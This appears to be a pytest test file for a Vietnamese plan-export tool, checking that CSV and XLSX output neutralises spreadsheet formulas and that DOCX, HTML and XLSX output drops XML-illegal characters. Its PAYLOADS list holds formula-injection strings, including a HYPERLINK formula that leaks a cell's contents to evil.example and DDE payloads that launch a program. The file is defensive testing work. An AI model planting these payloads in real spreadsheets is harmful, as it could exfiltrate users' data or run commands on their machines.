"""Outputs safe for any plan text: no CSV cell a spreadsheet evaluates, no xlsx formula."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from kehoach.writers import csv_cell

from .conftest import PLANS, plan_text
from .helpers import run
from .test_rollup import copy_plans

# What LibreOffice evaluated when kehoach wrote it as it was (issue 14, finding 8).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1\nthứ hai",
]
LIVE = re.compile(r"[=+\-@\t\r]")
SIGNED_NUMBER = re.compile(r"[-+][0-9]+(?:[.,][0-9]+)?")


def inert(data: bytes) -> list[list[str]]:
    """The CSV's rows, after checking that no field starts like a formula."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for field in row:
            assert not LIVE.match(field) or SIGNED_NUMBER.fullmatch(field), field
    return rows


def hostile_plan(tmp_path: Path) -> Path:
    rows = "".join(f"- {{number: '{i}', id: t{i}, text: {json.dumps(p)}, lead: Phòng Kinh tế, "
                   f"deadline: {json.dumps(p)}}}\n" for i, p in enumerate(PAYLOADS, start=1))
    text, _ = plan_text(rows)
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / "p.yaml").write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-2", "-2"), ("-2,5", "-2,5"), ("-2+3", "'-2+3"), ("@A1", "'@A1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("+84 912", "'+84 912"), ("a=1", "a=1"), (-2, -2), (1.5, 1.5),
    (None, ""), (["=a", "b"], "'=a; b"),
])
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


def test_export_csv_neutralises_formulas(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    r = run(capsys, "export", str(hostile_plan(tmp_path)), "--format", "csv")
    assert r.code == 0, r.err
    header, *rows = inert(r.out.encode())
    texts = [dict(zip(header, row, strict=True))["text"] for row in rows]
    # The model strips the text's ends, so the tab and CR payloads arrive as "=1+1": neutralised all the same.
    assert texts == ["'" + p.strip() for p in PAYLOADS]


def test_status_csv_neutralises_formulas(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    r = run(capsys, "status", str(hostile_plan(tmp_path)), "--as-of", "2026-03-01", "--format", "csv")
    assert r.code == 0, r.err
    header, *rows = inert(r.out.encode())
    assert len(rows) == len(PAYLOADS)
    assert {row[header.index("text")] for row in rows} == {"'" + p.strip() for p in PAYLOADS}


def test_rollup_csv_neutralises_formulas(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    plans = copy_plans(tmp_path, monkeypatch)
    communes = sorted((plans / "hai-phong").glob("*.yaml"))
    communes = [p for p in communes if p.name != "units.yaml"]
    for plan, payload in zip(communes, PAYLOADS, strict=False):
        text = plan.read_text(encoding="utf-8")
        line = re.search(r"(?m)^  commune: .*$", text)
        assert line is not None
        plan.write_text(text.replace(line.group(0), f"  commune: {json.dumps(payload)}"), encoding="utf-8")
    r = run(capsys, "rollup", str(plans), "--as-of", "2026-06-30", "--format", "csv")
    assert r.code == 0, r.err
    header, *rows = inert(r.out.encode())
    seen = {row[header.index("commune")] for row in rows}
    # The commune is not stripped here: "\t=1+1" arrives with its tab, and gets its quote in front.
    assert {"'" + p for p in PAYLOADS[:len(communes)]} <= seen


@pytest.mark.parametrize("command", [["export"], ["status", "--as-of", "2026-03-01"]])
def test_xlsx_keeps_formulas_as_text(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                     command: list[str]) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "out.xlsx"
    r = run(capsys, *command, str(hostile_plan(tmp_path)), "--format", "xlsx", "-o", str(out))
    assert r.code == 0, r.err
    cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert {p.strip() for p in PAYLOADS} <= values


def test_bundled_plans_csv_unchanged_by_the_rule(capsys: pytest.CaptureFixture[str]) -> None:
    # The real plans hold no text that starts like a formula: their export reads as before.
    r = run(capsys, "export", str(PLANS), "--format", "csv")
    assert r.code == 0 and "'" + "=" not in r.out
    inert(r.out.encode())


# --- characters XML cannot hold (finding 7) -------------------------------------------------------

XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def illegal_plan(tmp_path: Path) -> Path:
    rows = ('- {number: "1", id: t1, text: "Tổ chức\\vtập huấn\\uFFFE", lead: "Phòng\\x01 Kinh tế", '
            'deadline: Tháng 6/2026}\n')
    text, _ = plan_text(rows)
    text = (text.replace("title: Kế hoạch thử nghiệm", 'title: "Kế hoạch\\vthử nghiệm\\uFFFF"')
            .replace("commune: Thử Nghiệm", 'commune: "Thử\\fNghiệm"')
            .replace("name: Nguyễn Văn A", 'name: "Nguyễn\\eVăn A"'))
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / "p.yaml").write_text(text, encoding="utf-8")
    return folder


def test_validate_reports_each_character_at_its_line(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    r = run(capsys, "validate", str(illegal_plan(tmp_path)), "--format", "json", "--select", "illegal-character")
    found = {(f["line"], f["message"].split()[2]) for f in r.json()["findings"]}
    assert found == {(5, "U+000C"), (13, "U+000B"), (17, "U+001B"), (31, "U+000B"), (31, "U+0001")}, found


def test_a_raw_control_character_never_reaches_the_rule(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    # The rule looks only at files with a backslash: libyaml must go on refusing the raw character.
    text, _ = plan_text("- {id: t1, text: Tổ chức\x0btập huấn, lead: Công an xã}\n")
    (tmp_path / "p.yaml").write_text(text, encoding="utf-8")
    r = run(capsys, "validate", str(tmp_path / "p.yaml"), "--format", "json")
    assert r.code == 2 and [f["rule"] for f in r.json()["findings"]] == ["yaml-syntax"]


def test_docx_drops_them_with_a_notice(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    from docx import Document

    out = tmp_path / "p.docx"
    r = run(capsys, "render", str(illegal_plan(tmp_path) / "p.yaml"), "--format", "docx", "-o", str(out))
    assert r.code == 0, r.err
    assert "5, 13, 17, 31" in r.err and "illegal-character" in r.err
    doc = Document(str(out))
    assert doc.core_properties.title == "KẾ HOẠCH Kế hoạchthử nghiệm"
    assert doc.core_properties.subject == "xã ThửNghiệm"
    texts = [p.text for p in doc.paragraphs] + [c.text for t in doc.tables for row in t.rows for c in row.cells]
    assert "Tổ chứctập huấn" in texts and "Phòng Kinh tế" in texts and "TM. ỦY BAN NHÂN DÂN\nNguyễnVăn A" in texts
    assert not any(XML_ILLEGAL.search(x) for x in texts)


def test_html_drops_them(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    out = tmp_path / "p.html"
    r = run(capsys, "render", str(illegal_plan(tmp_path) / "p.yaml"), "--format", "html", "-o", str(out))
    assert r.code == 0 and "illegal-character" in r.err
    page = out.read_text(encoding="utf-8")
    assert "Tổ chứctập huấn" in page and not XML_ILLEGAL.search(page)


def test_markdown_keeps_them_without_a_notice(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    out = tmp_path / "p.md"
    r = run(capsys, "render", str(illegal_plan(tmp_path) / "p.yaml"), "--format", "md", "-o", str(out))
    assert r.code == 0 and "illegal-character" not in r.err
    assert "\x0b" in out.read_text(encoding="utf-8")


@pytest.mark.parametrize("command", [["export"], ["status", "--as-of", "2026-03-01"]])
def test_xlsx_drops_them(capsys: pytest.CaptureFixture[str], tmp_path: Path, command: list[str]) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "out.xlsx"
    r = run(capsys, *command, str(illegal_plan(tmp_path)), "--format", "xlsx", "-o", str(out))
    assert r.code == 0, r.err
    values = [str(c.value) for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
    assert "Tổ chứctập huấn" in values and not any(XML_ILLEGAL.search(v) for v in values)


def test_rollup_xlsx_and_html_drop_them(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from openpyxl import load_workbook

    plans = copy_plans(tmp_path, monkeypatch)
    plan = plans / "hai-phong" / "vinh-hai.yaml"
    text = plan.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^  commune: .*$", lambda _: '  commune: "Vĩnh\\vHải"', text, count=1)
    plan.write_text(text, encoding="utf-8")
    out = tmp_path / "r.xlsx"
    assert run(capsys, "rollup", str(plans), "--as-of", "2026-06-30", "--format", "xlsx", "-o", str(out)).code == 0
    values = [str(c.value) for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
    assert "VĩnhHải" in values and not any(XML_ILLEGAL.search(v) for v in values)
    page = run(capsys, "rollup", str(plans), "--as-of", "2026-06-30", "--format", "html")
    assert page.code == 0 and "VĩnhHải" in page.out and not XML_ILLEGAL.search(page.out)
